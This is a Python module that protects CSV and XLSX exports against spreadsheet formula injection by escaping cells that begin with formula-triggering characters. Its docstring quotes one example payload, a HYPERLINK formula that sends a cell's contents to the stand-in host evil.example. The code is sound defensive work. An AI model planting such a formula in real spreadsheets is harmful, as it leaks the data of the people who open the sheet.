"""Text cells that a spreadsheet shows as text and never runs as a formula.

Excel, LibreOffice and Google Sheets take a cell whose text starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return for a formula (OWASP, "CSV Injection"): a
bidder named ``=HYPERLINK("http://evil.example/?"&A1,"Acme")`` would become a live
link in every evaluator's score sheet. Every CSV and XLSX obcrules writes passes its
text through `guard`, which puts an apostrophe in front of such text (the OWASP
advice), and every sheet obcrules reads passes its text through `unguard`, which
takes that apostrophe off again.

`guard` adds the apostrophe to text made of any number of apostrophes and then a risky
character, and `unguard` removes one only from such text, so the two are inverses:
any text written and read back is unchanged (``'=x`` is written ``''=x``). An
evaluator's own apostrophe before ordinary text (``'Tis good``) is kept; one typed
before a risky character in a CSV is read as the spreadsheets read it, as the mark
that the cell is text. A plain number (``-5``, ``+2.5``) is a number to a spreadsheet,
not a formula, and is written as it is.

The full-width forms of the risky characters are guarded too: some spreadsheets
convert them to the ASCII ones as they are typed in East Asian input modes.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

RISKY = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
"""The first characters that make a cell a formula (OWASP's list, and full-width ``=+-@``)."""

_GUARDED = re.compile("'*[" + re.escape(RISKY) + "]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def guard(text: str) -> str:
    """``text`` as a cell that shows it and runs nothing: ``=1+1`` → ``'=1+1``."""
    if _GUARDED.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def unguard(text: str) -> str:
    """The text that `guard` wrote as ``text``: ``'=1+1`` → ``=1+1``; ``'Tis`` stays."""
    if text.startswith("'") and _GUARDED.match(text, 1):
        return text[1:]
    return text


def is_live(text: str) -> bool:
    """Would a spreadsheet run this cell's text as a formula?"""
    return bool(text) and text[0] in RISKY and not _NUMBER.fullmatch(text)


def guarded_row(row: Iterable[object]) -> list[object]:
    """A row with each text cell guarded (numbers and blanks as they are)."""
    return [guard(cell) if isinstance(cell, str) else cell for cell in row]


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 CSV of ``rows`` (a header row first, if any), every text cell guarded, lines
    ending in ``\\n``."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\n")
    quoting = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = guarded_row(row)
        # The csv module quotes a field holding "\n" but not one holding only "\r", which
        # a reader takes for the end of the row: such a row is written all quoted.
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (quoting if has_cr else writer).writerow(cells)
    return buffer.getvalue().encode("utf-8")
